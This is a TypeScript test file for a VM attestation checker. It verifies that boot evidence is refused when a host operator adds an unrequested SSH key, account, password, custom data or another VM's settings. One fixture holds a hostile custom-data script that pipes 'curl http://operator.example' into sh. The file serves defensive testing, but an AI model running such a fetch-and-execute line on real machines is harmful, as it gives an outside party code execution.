import type { InstanceSpec, RetrievedEvidence } from '@strongroom/contract'
import { fromBase64Url, toBase64Url } from '@strongroom/evidence'
import { parseSettings, settingsText } from '@strongroom/evidence/expected'
import { openServiceStore } from '@strongroom/platform'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Link, SettingsReference } from '@strongroom/trust'
import { askedWith } from '../../apps/cli/src/trust/asked-settings.ts'
import { verifyBoot } from '../../apps/cli/src/trust/report.ts'
import { startTestInstallation, type TestInstallation } from '../../apps/strongroomd/src/testing/running.ts'
import { makeVm } from '../../apps/strongroomd/src/testing/simulated-vm.ts'
import { defaultAsked } from '../system/support/vm.ts'

let installation: TestInstallation
let path: string
let honest: RetrievedEvidence
const foreign = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJC operator'

beforeAll(async () => {
  installation = await startTestInstallation()
  path = await makeVm(installation, { name: 'vm', size: 'Standard_DC2as_v5' })
  honest = await evidenceOf()
})
afterAll(async () => await installation.close())

const evidenceOf = async (): Promise<RetrievedEvidence> =>
  await installation.arm<RetrievedEvidence>('POST', `${path}/retrieveBootEvidence`)

/** The host gives the guest settings of its operator's, at a separate boot. */
async function bootWith(change: (profile: InstanceSpec['osProfile']) => void): Promise<RetrievedEvidence> {
  const store = await openServiceStore(installation.running.context, 'control_plane')
  const row = await store.db.selectFrom('simulated_instance').selectAll().executeTakeFirstOrThrow()
  const status = JSON.parse(row['status'] as string) as { spec: InstanceSpec }
  change(status.spec.osProfile)
  const changed = { status: JSON.stringify(status) }
  await store.db.updateTable('simulated_instance').set(changed).where('vm_id', '=', row['vm_id']).execute()
  await store.close()
  await installation.run('POST', `${path}/restart`)
  return await evidenceOf()
}

async function settingsOf(
  retrieved: RetrievedEvidence,
  settings: SettingsReference = { by: 'owner', asked: honest.asked! },
): Promise<Link> {
  const { asked: _, ...evidence } = retrieved
  const report = await verifyBoot({
    name: 'vm',
    evidence,
    ...defaultAsked,
    encryption: 'DiskWithVMGuestState',
    size: 'Standard_DC2as_v5',
    stateDir: installation.running.context.stateDir,
    at: new Date(),
    fetchKeySet: async (issuer) => (await installation.wire.request({ method: 'GET', url: `${issuer}/certs` })).body,
    settings,
  })
  return report.links.find(({ id }) => id === 'settings')!
}

describe('the operator of a VM’s first boot', () => {
  it('is believed where the guest took what its owner asked for, by each reference there is', async () => {
    const asked = honest.asked!
    expect(asked).toEqual({ adminUsername: 'azureuser', sshPublicKeys: [expect.stringMatching(/^ssh-ed25519 /)] })
    for (const by of ['owner', 'creator', 'resource manager'] as const)
      expect(await settingsOf(honest, { by, asked })).toMatchObject({ outcome: 'verified' })
    // A comment grants no access.
    const renamed = { ...asked, sshPublicKeys: asked.sshPublicKeys.map((key) => `${key} at home`) }
    expect(await settingsOf(honest, { by: 'owner', asked: renamed })).toMatchObject({ outcome: 'verified' })
    const settled = fromBase64Url(honest.settled!)
    expect(await settingsOf(honest, { by: 'file', settled })).toMatchObject({ outcome: 'verified' })
  })

  it('is found out when the guest was given one more key, whatever the evidence then says (attack B5)', async () => {
    const attacked = await bootWith((profile) => profile.sshPublicKeys.push(foreign))
    expect(await settingsOf(attacked)).toMatchObject({
      outcome: 'refused',
      why: expect.stringContaining('accepts SSH keys that were not requested (PCR 14)') as string,
      expected: expect.stringMatching(/^ssh-ed25519 SHA256:/) as string,
      // ssh-keygen -lf of the key
      actual: expect.stringMatching(/^ssh-ed25519 SHA256:[A-Za-z0-9+/]{43}$/) as string,
    })
    // An earlier list with the current quote.
    const lying = { ...attacked, settled: honest.settled! }
    expect(await settingsOf(lying)).toMatchObject({
      outcome: 'refused',
      why: expect.stringContaining('The guest set up other accounts, keys or data') as string,
      expected: honest.measuredBoot!.pcrs['14'],
      actual: attacked.measuredBoot!.pcrs['14'],
    })
    // With the earlier register as well, the quote does not cover these registers, and nothing rests on it.
    const forged = structuredClone(lying)
    forged.measuredBoot!.pcrs['14'] = honest.measuredBoot!.pcrs['14']!
    expect(await settingsOf(forged)).toMatchObject({ outcome: 'not checked' })
    // A host that reports nothing is not trusted either.
    const { settled: _, ...silent } = attacked
    expect((await settingsOf(silent)).outcome).toBe('not checked')
    await bootWith((profile) => void profile.sshPublicKeys.pop())
  })

  it('is found out with other custom data, another account, or the settings of another VM (attack B5)', async () => {
    const settings = parseSettings(fromBase64Url(honest.settled!))
    const script = Buffer.from('#!/bin/sh\ncurl http://operator.example | sh\n')
    const given = await bootWith((profile) => void (profile.customData = script.toString('base64')))
    expect(await settingsOf(given)).toMatchObject({
      outcome: 'refused',
      why: expect.stringContaining('custom data') as string,
      expected: 'none',
      actual: askedWith({ ...settings, customData: script }).customDataSha256,
    })
    // Custom data that its owner names is accepted, by its digest.
    const asked = askedWith({ ...honest.asked!, customData: script })
    expect(await settingsOf(given, { by: 'owner', asked })).toMatchObject({ outcome: 'verified' })
    const renamed = await bootWith((profile) => {
      delete profile.customData
      profile.adminUsername = 'operator'
    })
    expect(await settingsOf(renamed)).toMatchObject({ outcome: 'refused', expected: 'azureuser', actual: 'operator' })
    // An unrequested password is a way in as well.
    const opened = await bootWith((profile) => {
      profile.adminUsername = 'azureuser'
      profile.passwordSha256 = 'ab'.repeat(32)
    })
    expect(await settingsOf(opened)).toMatchObject({ outcome: 'refused', expected: 'none', actual: 'ab'.repeat(32) })
    const known = { ...honest.asked!, passwordSha256: 'ab'.repeat(32) }
    expect(await settingsOf(opened, { by: 'resource manager', asked: known })).toMatchObject({ outcome: 'verified' })
    // Another VM's file is another register.
    const copied = toBase64Url(settingsText({ ...settings, vmId: 'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF' }))
    expect(await settingsOf({ ...honest, settled: copied })).toMatchObject({ outcome: 'refused' })
  })
})
